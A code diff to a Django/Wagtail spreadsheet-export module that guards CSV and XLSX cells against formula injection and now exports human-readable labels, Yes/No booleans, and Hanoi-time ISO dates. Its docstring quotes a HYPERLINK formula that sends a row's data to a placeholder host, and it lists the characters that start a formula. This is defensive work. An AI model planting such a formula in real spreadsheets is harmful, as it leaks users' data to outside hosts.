@@ -9,6 +9,12 @@ injection": ``=HYPERLINK("http://x/?"&A1,"Click")`` sends the row away). So:
   advises. In XLSX it is stored as text (never a formula) with Excel's "quote prefix",
   so it shows as typed and stays text when someone edits the cell. Numbers stay numbers:
   a negative number is a number cell, not text.
+- Values read as a person reads them, in the active (admin) language: a choice's label
+  rather than its code (``Đã gửi``, not ``sent``), Có/Không (Yes/No) for booleans, model
+  rows by name. Datetimes are in Hanoi time to the minute, ``2026-12-07 14:05``; dates
+  are ISO, ``2026-12-07``: a spreadsheet reads ISO the same way in every locale, while
+  ``07/12/2026`` is read month-first by an English Excel (the admin's own date bug).
+  XLSX has real date cells in the same two formats.
 - CSV is UTF-8 with a byte-order mark and says ``charset=utf-8``: without the mark
   Excel reads the file in the machine's code page and Vietnamese comes out garbled.
 
@@ -23,12 +29,16 @@ export the admin registers, and fails on any module but this one that writes CSV
 """
 
 import csv
-from datetime import date, time
+from collections import OrderedDict
+from datetime import date, datetime, time
 from decimal import Decimal
+from zoneinfo import ZoneInfo
 
+from django.conf import settings
 from django.http import HttpResponse, StreamingHttpResponse
-from django.utils import translation
+from django.utils import timezone, translation
 from django.utils.encoding import force_str
+from django.utils.translation import gettext
 
 CSV = "csv"
 XLSX = "xlsx"
@@ -36,6 +46,9 @@ BOM = "\ufeff"
 CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
 # What Excel, LibreOffice and Google Sheets take as the start of a formula (OWASP).
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+DATETIME_XLSX = "yyyy-mm-dd hh:mm"
+DATE_XLSX = "yyyy-mm-dd"
+TIME_XLSX = "hh:mm"
 XLSX_MAX_TEXT = 32767  # characters Excel holds in one cell
 
 
@@ -45,11 +58,21 @@ def neutralise(text):
 
 
 def plain(value):
-    """A cell's value: text, or a number, date or time as it is."""
+    """A cell's value as people read it: text, a number, or a Hanoi date/time."""
     if value is None:
         return ""
-    if isinstance(value, int | float | Decimal | date | time):
+    if isinstance(value, bool):
+        return gettext("Yes") if value else gettext("No")
+    if isinstance(value, int | float | Decimal):
         return value
+    if isinstance(value, datetime):
+        if timezone.is_aware(value):
+            value = value.astimezone(ZoneInfo(settings.TIME_ZONE))
+        return value.replace(second=0, microsecond=0, tzinfo=None)
+    if isinstance(value, date):
+        return value
+    if isinstance(value, time):
+        return value.replace(second=0, microsecond=0, tzinfo=None)
     if isinstance(value, list | tuple | set | frozenset):
         return ", ".join(str(csv_cell(item, quote=False)) for item in value)
     return force_str(value)
@@ -58,8 +81,12 @@ def plain(value):
 def csv_cell(value, quote=True):
     """One CSV field: text (neutralised) or a number."""
     value = plain(value)
-    if isinstance(value, date | time):
-        return str(value)
+    if isinstance(value, datetime):
+        return value.isoformat(sep=" ", timespec="minutes")
+    if isinstance(value, date):
+        return value.isoformat()
+    if isinstance(value, time):
+        return value.isoformat(timespec="minutes")
     if isinstance(value, str):
         # A NUL cannot be written by the csv module and means nothing to a reader.
         value = value.replace("\x00", "")
@@ -80,7 +107,24 @@ def xlsx_cell(worksheet, value):
     if isinstance(value, str):
         cell.data_type = "s"
         cell.quotePrefix = value.startswith(FORMULA_START)
+    elif isinstance(value, datetime):
+        cell.number_format = DATETIME_XLSX
+    elif isinstance(value, date):
+        cell.number_format = DATE_XLSX
+    elif isinstance(value, time):
+        cell.number_format = TIME_XLSX
     return cell
+
+
+def labelled(item, accessor):
+    """``item``'s value at the dotted ``accessor``, a choice's label rather than its code."""
+    from wagtail.coreutils import multigetattr
+
+    value = multigetattr(item, accessor)
+    owner_path, _dot, name = accessor.rpartition(".")
+    owner = multigetattr(item, owner_path) if owner_path else item
+    display = getattr(owner, f"get_{name}_display", None)
+    return display() if callable(display) else value
 
 
 class _Echo:
@@ -140,8 +184,11 @@ def streamed_csv_response(filename, lines):
 
 class SafeSpreadsheetExport:
     """The hooks :func:`install` puts on Wagtail's ``SpreadsheetExportMixin`` (Wagtail 8.0:
-    ``preprocess_field_value`` → ``write_csv_row`` / ``generate_xlsx_row``,
+    ``to_row_dict`` → ``preprocess_field_value`` → ``write_csv_row`` / ``generate_xlsx_row``,
     and ``write_csv_response`` for the file)."""
+
+    def to_row_dict(self, item):
+        return OrderedDict((field, labelled(item, field)) for field in self.list_export)
 
     def preprocess_field_value(self, field, value, export_format):
         # A view's own per-field conversion (Wagtail's reports name content types this
@@ -164,6 +211,7 @@ class SafeSpreadsheetExport:
 
 
 HOOKS = [
+    "to_row_dict",
     "preprocess_field_value",
     "generate_xlsx_row",
     "get_heading",
